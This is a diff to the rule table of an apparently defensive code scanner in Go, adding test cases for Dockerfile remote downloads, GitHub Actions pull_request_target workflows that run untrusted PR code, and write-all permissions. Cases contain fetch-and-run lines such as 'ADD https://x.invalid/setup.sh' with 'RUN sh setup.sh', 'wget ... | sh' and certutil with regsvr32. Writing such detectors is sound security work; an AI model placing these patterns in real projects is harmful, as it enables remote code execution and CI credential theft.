@@ -30,6 +30,12 @@ type Case struct {
 	Not  bool
 }
 
+// prtHeadInto is a pull_request_target workflow that checks the pull
+// request's head out into dir, with the steps after it.
+func prtHeadInto(dir, steps string) string {
+	return "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: " + dir + "\n" + steps
+}
+
 // The reasons several rules share.
 const (
 	hiddenWhy   = "what the line shows is not what the compiler, shell or reviewer reads"
@@ -64,6 +70,11 @@ var rules = []Rule{
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
+		// ADD into the working directory names the file by the URL's last segment.
+		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
+		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/t-1.2.tar.gz .\nRUN tar -xf t-1.2.tar.gz\nRUN adduser -S app && git config --global core.quotepath false", 0, true},
+		// --checksum fixes what the download is: the line decides what runs.
+		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
 	}},
 	{"indirect-run", KindDecodeExec, High, "pipes eval's output into a shell, or data into eval",
@@ -251,6 +262,14 @@ var rules = []Rule{
 			// Without a checkout of the head the base branch's own code runs.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, true},
+			// The head checked out into its own folder runs when a step works there or runs a file from it.
+			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: |\n          cd pr\n          npm ci"), 12, false},
+			{".github/workflows/a.yml", prtHeadInto("pr", "      - working-directory: pr\n        run: make docs"), 11, false},
+			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: bash pr/scripts/preview.sh"), 10, false},
+			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: pip install ./pr"), 10, false},
+			{".github/workflows/a.yml", prtHeadInto("pr", "      - uses: ./pr/.github/actions/preview"), 10, false},
+			// The base branch's own tool reading the folder as data.
+			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: |\n          npm ci\n          python tools/render.py --input ./pr/docs"), 0, true},
 		}},
 	{"gha-artifact-credentials", KindCredential, High, "uploads the checkout's .git folder (with the job's token) or a credential file as an artifact",
 		"actions/checkout leaves the job's token in .git/config; whoever can read the run downloads the artifact and uses the token while the job still runs (ArtiPACKED)", []Case{
@@ -396,7 +415,9 @@ var rules = []Rule{
 		"any step's output can then set the environment of the steps after it", nil},
 	{"gha-excessive-permissions", KindCIFile, High, "gives write permissions to a workflow that runs pull-request code",
 		"the job's token can then push code, publish packages or mint cloud credentials for whatever the change runs", []Case{
-			{".github/workflows/a.yml", "on: pull_request\npermissions: write-all", 2, false},
+			{".github/workflows/a.yml", "on: push\npermissions: write-all", 2, false},
+			// A fork's pull request gets a read-only token whatever the workflow asks.
+			{".github/workflows/a.yml", "on: pull_request\npermissions: write-all", 2, true},
 			{".github/workflows/a.yml", "on:\n  push:\n    tags: ['v*']\npermissions:\n  contents: write", 5, true},
 		}},
 	{"gha-write-permission", KindCIFile, Medium, "gives the job's token write permissions",
